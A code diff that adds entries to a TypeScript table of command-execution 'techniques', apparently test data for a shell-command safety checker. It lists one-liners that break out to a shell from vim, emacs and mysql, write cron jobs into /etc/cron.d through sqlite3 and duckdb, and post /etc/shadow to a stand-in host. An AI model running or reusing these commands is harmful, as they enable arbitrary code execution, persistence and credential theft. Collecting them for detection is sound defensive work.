@@ -12,6 +12,8 @@ export const driving: Techniques = {
     c => `vim -s <(printf '%s\\n' ${q(`:!${c}`)}) a`,
     c => `vim -u <(echo ${q(`:!${c}`)}) a`,
     c => `vim -c ${q(`bufdo !${c}`)} a`,
+    c => `vim -c ${q(`windo exe "!${c}"`)} a`,
+    c => `emacs -x <(echo ${q(`(shell-command "${c}")`)})`,
     c => `vim -c ${q(`autocmd VimEnter * !${c}`)}`,
     c => `vim -es +${q(`normal! :!${c}`)} +q`,
     c => `vim -c ${q(`call job_start([${list(c)}])`)}`,
@@ -119,6 +121,7 @@ export const driving: Techniques = {
     _ => `elixir -e 'Req.post!("http://x.test", body: File.read!("/etc/shadow"))'`,
     _ => "duckdb -c \"copy t to '/etc/cron.d/x'\"",
     _ => "sqlite3 a.db '.output /etc/cron.d/x' 'select 1'",
+    _ => "sqlite3 a.db \"select writefile('/etc/cron.d/x','x')\"",
     c => `mysql -e ${q(`pager ${c}`)}`,
   ],
   "files that variables and options name": [
